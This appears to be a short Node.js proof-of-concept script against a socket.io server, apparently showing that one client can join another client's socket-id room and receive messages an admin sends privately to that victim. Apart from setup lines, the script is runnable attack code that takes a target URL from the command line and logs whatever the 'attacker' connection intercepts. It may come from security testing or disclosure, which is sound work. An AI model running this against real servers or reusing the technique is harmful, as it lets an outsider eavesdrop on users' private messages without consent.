import { io } from "socket.io-client";
const url = process.argv[2];
const wait = (ms) => new Promise(r => setTimeout(r, ms));
function open(ns, opts = {}) {
  return new Promise((res, rej) => {
    const s = io(url + ns, { forceNew: true, reconnection: false, transports: ["websocket"], ...opts });
    s.on("connect", () => res(s)); s.on("connect_error", (e) => rej(e));
  });
}
const victim = await open("/");
const attacker = await open("/");
console.log("attacker join", JSON.stringify(await attacker.timeout(3000).emitWithAck("join", victim.id)));
const admin = await open("/admin", { auth: { username: "admin", password: "an admin password for tests" } });
await wait(500);
victim.onAny((e, ...a) => console.log("  victim got", e, JSON.stringify(a)));
attacker.onAny((e, ...a) => console.log("  ATTACKER got", e, JSON.stringify(a).slice(0,200)));
console.log("admin private emit to victim", JSON.stringify(await admin.timeout(3000).emitWithAck("emit", "/", victim.id, "private", "secret for victim only")));
console.log("admin disconnect victim", JSON.stringify(await admin.timeout(3000).emitWithAck("_disconnect", "/", false, victim.id)));
await wait(500);
console.log("victim connected", victim.connected, "attacker connected", attacker.connected);
process.exit(0);
